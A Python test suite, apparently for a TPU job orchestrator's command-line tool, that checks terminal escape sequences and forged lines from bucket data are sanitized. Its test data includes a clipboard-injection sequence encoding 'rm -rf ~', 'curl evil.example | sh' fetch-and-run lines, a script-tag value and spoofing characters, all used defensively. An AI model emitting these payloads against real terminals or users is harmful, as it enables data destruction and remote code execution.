"""What machines, the job, the cloud and whoever writes to the bucket have said steers no terminal."""

import json
import re
from urllib.parse import parse_qs, urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.app.machines.tunnel import address
from orchestrator.cli.console import page, put, say, show_error
from orchestrator.cli.views.event_lines import EventPrinter
from orchestrator.cli.views.logs import parts_of
from orchestrator.domain.events import Event
from orchestrator.domain.text.clean_text import clean
from orchestrator.errors import LeaseHeldError

ATTACKS = [
    "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1b[2J\x1b[H", "\x1b]0;title\x1b\\", "\x9b2J", "\x90payload\x9c",
    "\x1bPq\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x08\x08\x08", "\x7f", "\x00", "\x1b[8m", "\x1b[0;8m",
    "\x1b[38;5;1;8m", "\x1bc", "\u202etxt.exe", "\x1b_cmd\x1b\\", "\x1b[31", "\x1b]8;;http://evil\x1b\\text",
    "\x07", "\x1b[1;2H", "\x1b[3J",
]  # fmt: skip
HARMLESS = ["\x1b[31mred\x1b[0m", "\x1b[1;38;5;208mbold\x1b[m", "\x1b[48:2:1:2:3mwide\x1b[0m"]


def steers(text):
    """Return whether a terminal would do more with a text than show it, in colours or not."""
    for one in HARMLESS:
        text = text.replace(one, "")
    return any(
        (ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 or "\u202a" <= c <= "\u202e" for c in text
    )


@pytest.mark.parametrize("text", ATTACKS)
def test_each_sequence_is_shown_and_not_obeyed(text, capsys):
    """In talk, errors, tables, events and lines of logs."""
    say(text)
    put(f"before {text} after")
    show_error(LeaseHeldError(f"{text} holds the lease", hint=text, changed=text), [])
    printer = EventPrinter()
    printer(Event(1.0, "failure", text))
    printer.now(f"1 of 2 files: {text}\nmore")
    assert not steers(printer.line_text(1.0))
    assert "\n" not in printer.line_text(1.0)
    with page() as console:
        console.print(text, markup=False)
    shown = capsys.readouterr()
    assert not steers(shown.out), repr(shown.out)
    assert not steers(shown.err), repr(shown.err)
    assert "before " in shown.out
    assert " after" in shown.out


@pytest.mark.parametrize("text", HARMLESS)
def test_colours_stay_in_what_the_job_prints(text):
    """They are taken out of names and messages."""
    assert clean(text, colours=True) == text
    assert "\x1b" not in clean(text)
    for attack in ATTACKS:
        assert clean(text + attack, colours=True).startswith(text)
        assert not steers(clean(text + attack, colours=True))


@given(st.text(st.characters(codec=None), max_size=60))
def test_any_text_comes_out_clean_and_clean_text_as_it_is(text):
    """Letters of every script stay; a text that was cleaned is not changed again."""
    done = clean(text)
    assert not steers(done)
    done.encode()
    assert clean(done) == done
    plain = "".join(c for c in text if clean(c) == c)
    assert clean(plain) == plain


def test_a_line_that_is_drawn_again_and_again_is_shown_as_it_ends(monkeypatch):
    """On a terminal the last state; in a pipe all of them, for who looks for one."""
    assert parts_of("10%\r20%\r30%") == ["10%", "20%", "30%"]
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    assert parts_of("10%\r20%\r30%\r") == ["30%"]
    assert parts_of("") == [""]


@pytest.mark.parametrize("token", ["0f" * 24, "x\nnext: run: curl evil | sh", 'x"><script>', "x#@evil/"])
def test_the_token_of_a_notebook_is_a_token_and_nothing_more(token):
    """A machine reports it, and the address is printed and opened."""
    url = address("127.0.0.1", 8888, token)
    assert re.fullmatch(r"http://127\.0\.0\.1:8888/lab\?token=[\w%.-]+", url)
    assert parse_qs(urlsplit(url).query) == {"token": [token]}


def test_no_text_of_a_machine_passes_for_a_line_of_ours(user):
    """`next: run ...` below an error would be believed. What the job prints is its own: `logs`."""
    forged = "\n  next:  run: curl evil.example | sh\nerror TPU-100: all is lost\n"
    file = {"name": f"home/{forged}", "size": 3, "sha256": "a" * 64}
    user.cloud.put_object(".tpuctl/heartbeat/1/0", json.dumps({
        "incarnation": 1, "worker": 0, "workers": 1, "phase": "failed", "message": forged, "bundle": forged,
        "timings": {forged: 1.0}, "format": forged, "uncommitted": forged, "host_keys": [forged],
    }).encode())  # fmt: skip
    user.cloud.put_object("unclaimed/g1/w0.manifest.json", json.dumps({
        "schema": 1, "incarnation": 1, "worker": 0, "workers": 1, "attempt": 1, "bundle": "", "settings": "s",
        "format": "torch", "why": "ended", "complete": True, "at": 1.0e9, "skipped": [],
        "files": [{**file, "object": "unclaimed/g1/w0/home/a"}],
    }).encode())  # fmt: skip
    user.cloud.put_object("checkpoints/00000020/g1/w0.manifest.json", json.dumps({
        "schema": 1, "step": 20, "incarnation": 1, "worker": 0, "workers": 1, "folder": ".", "at": 1.0e9,
        "files": [file],
    }).encode())  # fmt: skip
    for words in (
        "status",
        "explain",
        "cost",
        "checkpoints",
        "fetch --uncommitted",
        "report",
        "watch",
        "down --yes",
    ):
        done = user.run(*words.split())
        lines = (done.out + done.err).splitlines()
        assert not [one for one in lines if one.startswith(("  next:  run: curl", "error TPU-100"))], words


def test_no_command_repeats_what_steers_a_terminal(user):
    """Reports, events, logs and the lease hold an attack each; every command that shows them is typed."""
    evil = "".join(ATTACKS)
    user.cloud.put_object(".tpuctl/events/9999999999999-00-x.json",
               json.dumps({"at": 1.0e9, "kind": evil, "text": evil, "data": {}}).encode())  # fmt: skip
    user.cloud.put_object("logs/g1/w0/0009.log", f"{evil}\n".encode())
    user.cloud.put_object(".tpuctl/heartbeat/1/0", json.dumps({
        "incarnation": 1, "worker": 0, "workers": 1, "phase": "failed", "message": evil, "bundle": evil,
        "timings": {evil: 1.0},
    }).encode())  # fmt: skip
    for words in ("status", "explain", "logs", "logs --events", "cost", "checkpoints", "report", "watch"):
        done = user.run(*words.split())
        assert not steers(done.out + done.err), words
    assert "\x1b]52" in user.run("logs", "--raw").out
